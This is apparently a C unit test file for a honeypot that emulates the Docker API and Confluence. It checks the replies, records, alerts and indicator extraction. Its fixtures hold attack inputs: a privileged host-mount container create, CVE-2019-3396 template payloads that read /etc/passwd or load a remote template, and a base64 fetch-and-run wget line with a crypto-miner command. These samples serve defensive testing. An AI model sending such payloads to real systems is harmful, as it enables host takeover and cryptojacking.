/*
 * test_session.c — the honeypot's request path fed from memory: dockerd's
 * headers and bodies, the create/pull/create sequence, attach and exec
 * upgrades with 8-byte frames, keep-alive with pipelining, the limits
 * (header count, body kept, memory), Confluence CVE-2019-3396 replies and
 * alerts, records with Cowrie's shared keys, indicator extraction, and the
 * payload hook (decoded payloads handed over whole, at most four a request).
 */
#include "core/compat.h"
#include "honeypot/honeypot.h"
#include "core/sinks.h"

#include <setjmp.h>
#include <cmocka.h>

struct capture {
	struct mm_buf alerts;	/* one JSON per line */
	struct mm_buf records;
	struct mm_buf reply;
	size_t n_alerts, n_records;
};

static struct capture cap;

static int sink_alert(void *st, const struct mm_alert *a, const char *json, size_t len)
{
	(void)st;
	(void)a;
	cap.n_alerts++;
	mm_buf_append(&cap.alerts, json, len);
	return mm_buf_append_byte(&cap.alerts, '\n');
}

static int rec_fn(void *arg, const char *json, size_t len)
{
	(void)arg;
	cap.n_records++;
	mm_buf_append(&cap.records, json, len);
	return mm_buf_append_byte(&cap.records, '\n');
}

static void write_fn(void *arg, const void *data, size_t len)
{
	(void)arg;
	mm_buf_append(&cap.reply, data, len);
}

struct fx {
	struct mm_output *out;
	struct honeypot *hp;
};

static int setup(void **state)
{
	static struct fx f;
	struct honeypot_config cfg;
	struct mm_sink sink;
	struct mm_alert_json_opts jo;

	memset(&cap, 0, sizeof(cap));
	mm_buf_init(&cap.alerts, 16 << 20);
	mm_buf_init(&cap.records, 64 << 20);
	mm_buf_init(&cap.reply, 16 << 20);
	memset(&jo, 0, sizeof(jo));
	f.out = mm_output_new(&jo);
	memset(&sink, 0, sizeof(sink));
	sink.name = "test";
	sink.alert = sink_alert;
	assert_int_equal(mm_output_add(f.out, &sink), 0);
	honeypot_config_defaults(&cfg);
	cfg.sensor = "unit";
	cfg.deterministic = true;
	cfg.mem_cap = 4 << 20;
	assert_int_equal(honeypot_new(&f.hp, &cfg, f.out, NULL), 0);
	honeypot_set_record_fn(f.hp, rec_fn, NULL);
	*state = &f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;

	honeypot_free(f->hp);
	mm_output_free(f->out);
	mm_buf_release(&cap.alerts);
	mm_buf_release(&cap.records);
	mm_buf_release(&cap.reply);
	return 0;
}

static void reset(void)
{
	mm_buf_reset(&cap.alerts);
	mm_buf_reset(&cap.records);
	mm_buf_reset(&cap.reply);
	cap.n_alerts = cap.n_records = 0;
}

static const char *reply(void)
{
	return cap.reply.ptr ? cap.reply.ptr : "";
}

/* Opens a session, feeds text, closes; returns the feed result. */
static int exchange(struct fx *f, enum honeypot_service svc, const char *src, const char *text)
{
	struct honeypot_session *s = NULL;
	int rc;

	assert_int_equal(honeypot_session_open(f->hp, svc, src, 40000, "127.0.0.1", 2375, write_fn,
					       NULL, &s), 0);
	rc = honeypot_session_feed(s, (const uint8_t *)text, strlen(text));
	honeypot_session_close(s, "test");
	return rc;
}

static bool reply_has(const char *needle)
{
	size_t n = strlen(needle);

	for (size_t i = 0; i + n <= cap.reply.len; i++) {
		if (!memcmp(cap.reply.ptr + i, needle, n))
			return true;
	}
	return false;
}

static void post(char *buf, size_t n, const char *path, const char *body)
{
	snprintf(buf, n, "POST %s HTTP/1.1\r\nHost: x\r\nUser-Agent: Go-http-client/1.1\r\n"
			 "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
		 path, strlen(body), body);
}

static void test_ping_headers(void **state)
{
	struct fx *f = *state;

	reset();
	assert_int_equal(exchange(f, HONEYPOT_DOCKER, "192.0.2.1",
				  "HEAD /_ping HTTP/1.1\r\nHost: x\r\n\r\n"
				  "GET /v1.24/_ping HTTP/1.1\r\nHost: x\r\n\r\n"), 0);
	const char *r = reply();
	assert_non_null(strstr(r, "HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\n"));
	assert_non_null(strstr(r, "Docker-Experimental: false\r\n"));
	assert_non_null(strstr(r, "Ostype: linux\r\n"));
	assert_non_null(strstr(r, "Server: Docker/20.10.24 (linux)\r\n"));
	assert_non_null(strstr(r, "Cache-Control: no-cache, no-store, must-revalidate\r\n"));
	assert_non_null(strstr(r, "Pragma: no-cache\r\n"));
	/* HEAD has no body; the pipelined GET that follows ends with OK */
	assert_non_null(strstr(r, "Content-Length: 0\r\nContent-Type: text/plain; charset=utf-8\r\n"));
	assert_non_null(strstr(r, " GMT\r\n\r\nHTTP/1.1 200 OK"));
	assert_non_null(strstr(r, "\r\nContent-Length: 2\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nOK"));
	assert_int_equal(strcmp(r + strlen(r) - 4, "\r\nOK"), 0);
	assert_int_equal(cap.n_alerts, 0);
	/* connect, two requests, closed */
	assert_int_equal(cap.n_records, 4);
	assert_non_null(strstr(cap.records.ptr, "{\"eventid\":\"mamori.session.connect\",\"timestamp\":"));
	assert_non_null(strstr(cap.records.ptr, "\"session\":"));
	assert_non_null(strstr(cap.records.ptr, "\"src_ip\":\"192.0.2.1\",\"src_port\":40000,"
						"\"dst_ip\":\"127.0.0.1\",\"dst_port\":2375,"
						"\"protocol\":\"docker\",\"sensor\":\"unit\""));
	assert_non_null(strstr(cap.records.ptr, "\"eventid\":\"mamori.docker.request\""));
	assert_non_null(strstr(cap.records.ptr, "\"api_version\":\"1.24\""));
	assert_non_null(strstr(cap.records.ptr, "\"eventid\":\"mamori.session.closed\""));
}

static void test_unknown_and_versions(void **state)
{
	struct fx *f = *state;

	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.2", "GET /v1.41/nope HTTP/1.1\r\nHost: x\r\n\r\n");
	assert_non_null(strstr(reply(), "HTTP/1.1 404 Not Found\r\n"));
	assert_non_null(strstr(reply(), "\r\n\r\n{\"message\":\"page not found\"}\n"));
	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.2", "GET /v1.99/version HTTP/1.1\r\nHost: x\r\n\r\n");
	assert_non_null(strstr(reply(), "HTTP/1.1 400 Bad Request\r\n"));
	assert_non_null(strstr(reply(), "is too new"));
	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.2", "GET /v1.41/info HTTP/1.1\r\nHost: x\r\n\r\n"
						 "GET /version HTTP/1.1\r\nHost: x\r\n\r\n");
	assert_non_null(strstr(reply(), "\"SystemTime\":"));
	assert_non_null(strstr(reply(), "\"Name\":\"docker-"));
	assert_non_null(strstr(reply(), "\"ApiVersion\":\"1.41\""));
	/* recon is alerted once per session */
	assert_int_equal(cap.n_alerts, 1);
	assert_non_null(strstr(cap.alerts.ptr, "mamori.honeypot.docker.recon"));
}

static void extract_id(const char *r, const char *key, char out[65])
{
	const char *p = strstr(r, key);

	assert_non_null(p);
	p += strlen(key);
	memcpy(out, p, 64);
	out[64] = 0;
	for (int i = 0; i < 64; i++)
		assert_true((out[i] >= '0' && out[i] <= '9') || (out[i] >= 'a' && out[i] <= 'f'));
}

static void test_create_pull_start_attach_exec(void **state)
{
	struct fx *f = *state;
	static char req[16384];
	char id[65], exec_id[65];
	const char *body = "{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/mnt\",\"sh\",\"-c\","
			   "\"echo hi\"],\"Tty\":false,\"HostConfig\":{\"Binds\":[\"/:/mnt\"],"
			   "\"Privileged\":true}}";

	reset();
	post(req, sizeof(req), "/v1.41/containers/create", body);
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req);
	assert_non_null(strstr(reply(), "HTTP/1.1 404 Not Found"));
	assert_non_null(strstr(reply(), "{\"message\":\"No such image: alpine:latest\"}"));
	assert_int_equal(cap.n_alerts, 1);
	assert_non_null(strstr(cap.alerts.ptr, "mamori.honeypot.docker.create-hostmount"));
	assert_non_null(strstr(cap.alerts.ptr, "\"level\":\"critical\""));

	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3",
		 "POST /v1.41/images/create?fromImage=docker.io%2Flibrary%2Falpine&tag=latest "
		 "HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
	assert_non_null(strstr(reply(), "Pulling from library/alpine"));
	assert_non_null(strstr(reply(), "Status: Downloaded newer image for alpine:latest"));
	assert_non_null(strstr(cap.records.ptr, "\"eventid\":\"mamori.docker.image.pull\""));
	assert_non_null(strstr(cap.alerts.ptr, "mamori.honeypot.docker.pull"));

	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req);
	assert_non_null(strstr(reply(), "HTTP/1.1 201 Created\r\n"));
	assert_non_null(strstr(reply(), "\",\"Warnings\":[]}"));
	extract_id(reply(), "{\"Id\":\"", id);
	/* the retry of the same create from the same source is not alerted again */
	assert_int_equal(cap.n_alerts, 0);
	assert_non_null(strstr(cap.records.ptr, "\"eventid\":\"mamori.docker.container.create\""));

	reset();
	snprintf(req, sizeof(req), "POST /v1.41/containers/%s/attach?stream=1&stdout=1 HTTP/1.1\r\n"
		 "Host: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nContent-Length: 0\r\n\r\n", id);
	assert_int_equal(exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req), 1);
	assert_non_null(strstr(reply(), "HTTP/1.1 101 UPGRADED\r\n"
					"Content-Type: application/vnd.docker.raw-stream\r\n"));
	{
		const char *fr = strstr(reply(), "\r\n\r\n") + 4;
		static const uint8_t hdr[8] = { 1, 0, 0, 0, 0, 0, 0, 3 };
		assert_memory_equal(fr, hdr, 8);
		assert_memory_equal(fr + 8, "hi\n", 3);
	}

	reset();
	snprintf(req, sizeof(req), "POST /v1.41/containers/%.12s/start HTTP/1.1\r\nHost: x\r\n"
		 "Content-Length: 0\r\n\r\nPOST /containers/%s/wait HTTP/1.1\r\nHost: x\r\n"
		 "Content-Length: 0\r\n\r\nGET /containers/json HTTP/1.1\r\nHost: x\r\n\r\n", id, id);
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req);
	assert_non_null(strstr(reply(), "HTTP/1.1 204 No Content\r\n"));
	assert_non_null(strstr(reply(), "{\"Error\":null,\"StatusCode\":0}"));
	assert_non_null(strstr(reply(), id));
	assert_non_null(strstr(reply(), "\"State\":\"running\""));

	reset();
	{
		char path[128];
		snprintf(path, sizeof(path), "/v1.41/containers/%s/exec", id);
		post(req, sizeof(req), path, "{\"Cmd\":[\"sh\",\"-c\",\"id\"],\"x\":1}");
	}
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req);
	assert_non_null(strstr(reply(), "HTTP/1.1 201 Created"));
	extract_id(reply(), "{\"Id\":\"", exec_id);
	assert_non_null(strstr(cap.alerts.ptr, "mamori.honeypot.docker.exec"));
	assert_non_null(strstr(cap.records.ptr, "\"eventid\":\"mamori.docker.exec\""));

	reset();
	snprintf(req, sizeof(req), "POST /v1.41/exec/%s/start HTTP/1.1\r\nHost: x\r\n"
		 "Connection: Upgrade\r\nUpgrade: tcp\r\nContent-Type: application/json\r\n"
		 "Content-Length: 29\r\n\r\n{\"Detach\":false,\"Tty\":false}\n", exec_id);
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req);
	assert_non_null(strstr(reply(), "HTTP/1.1 101 UPGRADED"));
	assert_true(reply_has("uid=0(root)"));

	/* the same with the body in a second segment, as the docker CLI often
	 * sends it: the upgrade must wait for the body, not close early */
	reset();
	{
		struct honeypot_session *hs = NULL;
		char *split = strstr(req, "\r\n\r\n") + 4;
		assert_int_equal(honeypot_session_open(f->hp, HONEYPOT_DOCKER, "192.0.2.3", 2,
						       "127.0.0.1", 2375, write_fn, NULL, &hs), 0);
		assert_int_equal(honeypot_session_feed(hs, (const uint8_t *)req,
						       (size_t)(split - req)), 0);
		assert_int_equal(cap.reply.len, 0);
		assert_int_equal(honeypot_session_feed(hs, (const uint8_t *)split, strlen(split)), 1);
		honeypot_session_close(hs, "test");
		assert_non_null(strstr(reply(), "HTTP/1.1 101 UPGRADED"));
		assert_true(reply_has("uid=0(root)"));
	}

	reset();
	snprintf(req, sizeof(req), "GET /exec/%s/json HTTP/1.1\r\nHost: x\r\n\r\n"
		 "DELETE /containers/%s HTTP/1.1\r\nHost: x\r\n\r\n"
		 "GET /containers/%s/json HTTP/1.1\r\nHost: x\r\n\r\n", exec_id, id, id);
	exchange(f, HONEYPOT_DOCKER, "192.0.2.3", req);
	assert_non_null(strstr(reply(), "\"ExitCode\":0"));
	assert_non_null(strstr(reply(), "No such container"));
}

static void test_limits(void **state)
{
	struct fx *f = *state;
	struct mm_buf big;
	struct honeypot_session *s = NULL;

	/* too many header lines: 431 and close */
	reset();
	mm_buf_init(&big, 8 << 20);
	mm_buf_append_str(&big, "GET /_ping HTTP/1.1\r\n");
	for (int i = 0; i < 5000; i++)
		mm_buf_appendf(&big, "X-H%d: v\r\n", i);
	mm_buf_append_str(&big, "\r\n");
	assert_int_equal(exchange(f, HONEYPOT_DOCKER, "192.0.2.4", big.ptr), 1);
	assert_non_null(strstr(reply(), "HTTP/1.1 431 Request Header Fields Too Large"));
	assert_non_null(strstr(cap.records.ptr, "\"status\":431"));
	assert_true(honeypot_stats(f->hp)->oversized_headers >= 1);

	/* a body over the kept size: answered, recorded truncated, hashed whole */
	reset();
	mm_buf_reset(&big);
	mm_buf_append_str(&big, "POST /v1.41/containers/create HTTP/1.1\r\nHost: x\r\n"
				"Content-Length: 200000\r\n\r\n{\"Image\":\"alpine\",\"Cmd\":[\"");
	{
		size_t start = (size_t)(strstr(big.ptr, "\r\n\r\n") + 4 - big.ptr);
		while (big.len < start + 200000)
			mm_buf_append_byte(&big, 'a');
	}
	assert_int_equal(honeypot_session_open(f->hp, HONEYPOT_DOCKER, "192.0.2.4", 1, "127.0.0.1",
					       2375, write_fn, NULL, &s), 0);
	/* in small pieces, as a slow peer sends it */
	for (size_t o = 0; o < big.len; o += 4096)
		honeypot_session_feed(s, (const uint8_t *)big.ptr + o, MM_MIN((size_t)4096, big.len - o));
	honeypot_session_close(s, "test");
	assert_non_null(strstr(reply(), "HTTP/1.1 400 Bad Request"));
	assert_non_null(strstr(cap.records.ptr, "\"body_size\":200000"));
	assert_non_null(strstr(cap.records.ptr, "\"body_truncated\":true"));
	assert_true(honeypot_stats(f->hp)->truncated_bodies >= 1);

	/* garbage and a TLS ClientHello: 400, close, recorded */
	reset();
	{
		static const uint8_t hello[] = { 0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1,
						 0x03, 0x03, 0x00, 0x01, 0x02 };
		assert_int_equal(honeypot_session_open(f->hp, HONEYPOT_DOCKER, "192.0.2.5", 1,
						       "127.0.0.1", 2375, write_fn, NULL, &s), 0);
		assert_int_equal(honeypot_session_feed(s, hello, sizeof(hello)), 1);
		honeypot_session_close(s, "test");
		assert_non_null(strstr(reply(), "HTTP/1.1 400 Bad Request"));
	}
	mm_buf_release(&big);
}

/* Requests being received by many sessions at once share mem_cap: past
 * it, a session gets 503 and is closed while the others go on. */
static void test_memory_cap(void **state)
{
	struct honeypot_config cfg;
	struct honeypot *hp = NULL;
	struct honeypot_session *s[8];
	static char part[40000];
	char head[200];
	int refused = 0;

	(void)state;
	reset();
	honeypot_config_defaults(&cfg);
	cfg.deterministic = true;
	cfg.mem_cap = 200 * 1024;
	assert_int_equal(honeypot_new(&hp, &cfg, NULL, NULL), 0);
	memset(part, 'a', sizeof(part));
	snprintf(head, sizeof(head), "POST /containers/create HTTP/1.1\r\nHost: x\r\n"
				     "Content-Length: 60000\r\n\r\n");
	for (int i = 0; i < 8; i++) {
		assert_int_equal(honeypot_session_open(hp, HONEYPOT_DOCKER, "192.0.2.9", i, "127.0.0.1",
						       2375, write_fn, NULL, &s[i]), 0);
		honeypot_session_feed(s[i], (const uint8_t *)head, strlen(head));
		if (honeypot_session_feed(s[i], (const uint8_t *)part, sizeof(part)) == 1)
			refused++;
	}
	/* 40 KB held by each (buffers grow by doubling): a few fit, the rest not */
	assert_true(refused >= 3);
	assert_true(refused < 8);
	assert_true(honeypot_stats(hp)->mem_refused >= 3);
	assert_non_null(strstr(reply(), "HTTP/1.1 503 Service Unavailable"));
	for (int i = 0; i < 8; i++)
		honeypot_session_close(s[i], "test");
	honeypot_free(hp);
}

static void test_confluence(void **state)
{
	struct fx *f = *state;
	static char req[8192];

	reset();
	post(req, sizeof(req), "/rest/tinymce/1/macro/preview",
	     "{\"contentId\":\"1\",\"macro\":{\"name\":\"widget\",\"params\":{\"url\":"
	     "\"https://v.example.com/x\",\"_template\":\"file:///etc/passwd\"},\"body\":\"\"}}");
	exchange(f, HONEYPOT_CONFLUENCE, "192.0.2.6", req);
	assert_non_null(strstr(reply(), "HTTP/1.1 200 OK"));
	assert_non_null(strstr(reply(), "root:x:0:0"));
	assert_int_equal(cap.n_alerts, 1);
	assert_non_null(strstr(cap.alerts.ptr, "mamori.honeypot.confluence.cve-2019-3396"));
	assert_non_null(strstr(cap.alerts.ptr, "\"kind\":\"file-read\""));
	assert_non_null(strstr(cap.records.ptr, "\"eventid\":\"mamori.confluence.exploit\""));
	assert_non_null(strstr(cap.records.ptr, "\"protocol\":\"confluence\""));

	reset();
	post(req, sizeof(req), "/rest/tinymce/1/macro/preview",
	     "{\"contentId\":\"1\",\"macro\":{\"name\":\"widget\",\"params\":{\"url\":"
	     "\"https://v.example.com/x\",\"_template\":\"../web.xml\"}}}");
	exchange(f, HONEYPOT_CONFLUENCE, "192.0.2.6", req);
	assert_non_null(strstr(reply(), "<param-name>contextConfigLocation</param-name>"));

	reset();
	post(req, sizeof(req), "/rest/tinymce/1/macro/preview",
	     "{\"contentId\":\"1\",\"macro\":{\"name\":\"widget\",\"params\":{\"url\":"
	     "\"https://v.example.com/x\",\"_template\":\"ftp://198.51.100.1/cmd.vm\",\"cmd\":\"id\"}}}");
	exchange(f, HONEYPOT_CONFLUENCE, "192.0.2.6", req);
	assert_non_null(strstr(reply(), "wiki-content\">\nuid=1001(confluence)"));
	assert_non_null(strstr(reply(), "\n            </div>\n"));
	assert_non_null(strstr(cap.alerts.ptr, "\"kind\":\"remote-template\""));
	assert_non_null(strstr(cap.alerts.ptr, "\"ips\":[\"198.51.100.1\"]"));

	reset();
	exchange(f, HONEYPOT_CONFLUENCE, "192.0.2.6", "GET /login.action HTTP/1.1\r\nHost: x\r\n\r\n");
	assert_non_null(strstr(reply(), "<title>Log In - Confluence</title>"));
	assert_int_equal(cap.n_alerts, 0);
}

static void test_indicators(void **state)
{
	struct fx *f = *state;
	static char req[8192];
	/* "wget http://203.0.113.9/a.sh" in Base64, and a wallet made valid
	 * by mm_wallet_check's own rules (ETH all-lowercase) */
	const char *body = "{\"Image\":\"busybox\",\"Cmd\":[\"sh\",\"-c\",\"echo "
			   "d2dldCBodHRwOi8vMjAzLjAuMTEzLjkvYS5zaA== | base64 -d | sh; "
			   "./m -o mine.example.net:3333 -u 0x52908400098527886e0f7030069857d2e4169ee7\"]}";

	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.7",
		 "POST /images/create?fromImage=busybox HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
	reset();
	post(req, sizeof(req), "/containers/create", body);
	exchange(f, HONEYPOT_DOCKER, "192.0.2.7", req);
	assert_int_equal(cap.n_alerts, 1);
	const char *a = cap.alerts.ptr;
	assert_non_null(strstr(a, "mamori.honeypot.docker.create\""));
	assert_non_null(strstr(a, "\"decoded\":[{\"encoding\":\"base64\",\"text\":\"wget http://203.0.113.9/a.sh\"}]"));
	assert_non_null(strstr(a, "\"urls\":[\"http://203.0.113.9/a.sh\"]"));
	assert_non_null(strstr(a, "\"domains\":[\"mine.example.net\"]"));
	assert_non_null(strstr(a, "\"coin\":\"ethereum\""));
	assert_non_null(strstr(a, "\"images\":[\"busybox\"]"));
}

struct payloads {
	size_t n;
	size_t len[8];
	char name[8][128];
	bool ok[8];
};

static int payload_fn(void *arg, const char *name, const uint8_t *data, size_t len, int64_t ts)
{
	struct payloads *p = arg;

	(void)ts;
	if (p->n < 8) {
		snprintf(p->name[p->n], sizeof(p->name[0]), "%s", name);
		p->len[p->n] = len;
		/* payload k (1-based) is "payload-k " then 'k' repeated */
		p->ok[p->n] = len > 10 && !memcmp(data, "payload-", 8) && data[len - 1] == data[8];
	}
	p->n++;
	return 0;
}

static void test_payload_hook(void **state)
{
	struct fx *f = *state;
	static char text[7000], b64[6][9400], body[60000], req[61000];
	struct payloads p;
	size_t o;

	memset(&p, 0, sizeof(p));
	honeypot_set_payload_fn(f->hp, payload_fn, &p);
	reset();
	exchange(f, HONEYPOT_DOCKER, "192.0.2.8",
		 "POST /images/create?fromImage=busybox HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
	/* six payloads; the first 6000 bytes long (over the 4 KiB kept in
	 * records), the others short */
	for (int k = 0; k < 6; k++) {
		size_t n = k == 0 ? 6000 : 40;
		int h = snprintf(text, sizeof(text), "payload-%d ", k + 1);
		memset(text + h, '0' + k + 1, n - (size_t)h);
		mm_base64_encode((const uint8_t *)text, n, b64[k]);
	}
	o = (size_t)snprintf(body, sizeof(body), "{\"Image\":\"busybox\",\"Cmd\":[\"sh\",\"-c\",\"");
	for (int k = 0; k < 6; k++)
		o += (size_t)snprintf(body + o, sizeof(body) - o, "echo %s | base64 -d | sh; ", b64[k]);
	snprintf(body + o, sizeof(body) - o, "\"]}");
	reset();
	post(req, sizeof(req), "/containers/create", body);
	exchange(f, HONEYPOT_DOCKER, "192.0.2.8", req);
	assert_int_equal(cap.n_alerts, 1);
	assert_int_equal(p.n, 4);
	assert_int_equal(p.len[0], 6000);
	for (size_t i = 0; i < 4; i++) {
		assert_true(p.ok[i]);
		assert_non_null(strstr(p.name[i], "!decoded-"));
		assert_int_equal(strncmp(p.name[i], "honeypot:", 9), 0);
	}
	assert_int_equal(p.len[1], 40);
	/* the record keeps 4 KiB of the long one */
	const char *t = strstr(cap.alerts.ptr, "\"text\":\"payload-1 ");
	assert_non_null(t);
	const char *e = strchr(t + 8, '"');
	assert_non_null(e);
	assert_int_equal((size_t)(e - t - 8), 4096);
	/* without a hook nothing is handed over */
	honeypot_set_payload_fn(f->hp, NULL, NULL);
	memset(&p, 0, sizeof(p));
	exchange(f, HONEYPOT_DOCKER, "192.0.2.9", req);
	assert_int_equal(p.n, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ping_headers),
		cmocka_unit_test(test_unknown_and_versions),
		cmocka_unit_test(test_create_pull_start_attach_exec),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_memory_cap),
		cmocka_unit_test(test_confluence),
		cmocka_unit_test(test_indicators),
		cmocka_unit_test(test_payload_hook),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
